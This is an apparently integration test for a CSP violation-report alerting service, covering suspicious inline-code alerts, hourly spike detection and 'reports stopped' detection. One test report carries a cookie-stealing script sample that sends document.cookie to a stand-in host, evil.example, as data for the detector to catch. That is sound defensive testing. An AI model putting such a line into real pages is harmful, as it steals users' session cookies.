// Alerts from the flow of violation reports, over HTTP on DynamoDB Local: reports sent through the real
// endpoint and consumer; a new suspicious inline-code group raises its alert at once; the hourly check (time
// injected, not waited for) raises a spike for an hour of 60 reports after a silent week, and "reports
// stopped" a day after they stopped; each hour is checked once; a long-silent domain is no longer watched.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkReportFlows } from '../../alerts/report-flows';
import type { LocalServer } from '../../local/server';
import { reportingMarkers } from '../../store/alerts';
import { hourStartMs } from '../../store/report-counts';
import { registeredClient, startTestServer } from '../../testing/api-server';
import { sendReport } from '../../testing/reports';

const HOUR = 3_600_000;
let server: LocalServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => {
  await server?.close();
});

interface Listed {
  kind: string;
  cause: string;
  summary: string;
  count: number;
  path: string;
}

describe('alerts from reports', () => {
  it('raises suspicious inline code at once, then a spike and reports stopped from the hourly check', async () => {
    const { client } = await registeredClient(server.url);
    const domain = (await (
      await client.post('/api/domains', { name: 'Site', url: 'https://site.example/' })
    ).json()) as { id: string; uuid: string };
    const alerts = async () =>
      ((await (await client.get(`/api/domains/${domain.id}/alerts`)).json()) as { alerts: Listed[] }).alerts;

    for (let i = 0; i < 59; i++) {
      const r = await sendReport(server.url, domain.uuid, {
        'document-uri': `https://site.example/p/${i}`,
        'violated-directive': 'img-src',
        'blocked-uri': `https://x.example/${i}.png`,
      });
      expect(r.status).toBe(204);
    }
    await sendReport(server.url, domain.uuid, {
      'document-uri': 'https://site.example/search?q=x',
      'violated-directive': 'script-src-elem',
      'blocked-uri': 'inline',
      'script-sample': 'fetch("https://evil.example/?c="+document.cookie)',
    });
    await server.reportQueue.idle();

    const suspicious = (await alerts()).filter((a) => a.kind === 'suspicious-inline');
    expect(suspicious).toHaveLength(1);
    expect(suspicious[0]!.summary).toContain('script-src-elem inline "fetch("https://evil.example/?c="');
    expect(suspicious[0]!.path).toBe(`/domains/${domain.id}`);

    // The hour the reports were counted in, as the consumer marked it.
    const marker = (await reportingMarkers(server.deps.db)).find((m) => m.domainId === domain.id)!;
    const hour = hourStartMs(marker.lastReportHour);
    const db = server.deps.db;

    // The next hour: 60 reports in the last complete hour after a silent week is a spike.
    expect(await checkReportFlows(db, hour + HOUR + 60_000)).toBe(1);
    expect(await checkReportFlows(db, hour + HOUR + 120_000)).toBe(0); // checked this hour already
    const spike = (await alerts()).find((a) => a.kind === 'report-spike')!;
    expect(spike.summary).toMatch(/^60 violation reports in the hour from \d\d:00 UTC, after a silent week/);

    // Silent for 25 hours after 60 in the week: reports stopped (once, however often it is checked).
    expect(await checkReportFlows(db, hour + 26 * HOUR)).toBe(1);
    expect(await checkReportFlows(db, hour + 27 * HOUR)).toBe(1);
    const stopped = (await alerts()).filter((a) => a.kind === 'reports-stopped');
    expect(stopped).toHaveLength(1);
    expect(stopped[0]!.count).toBe(2);
    expect(stopped[0]!.summary).toMatch(/^No violation reports for 2\d h, after 60 in the week before/);

    // Silent for days: the domain is no longer watched.
    await checkReportFlows(db, hour + 80 * HOUR);
    expect((await reportingMarkers(db)).some((m) => m.domainId === domain.id)).toBe(false);
  });
});
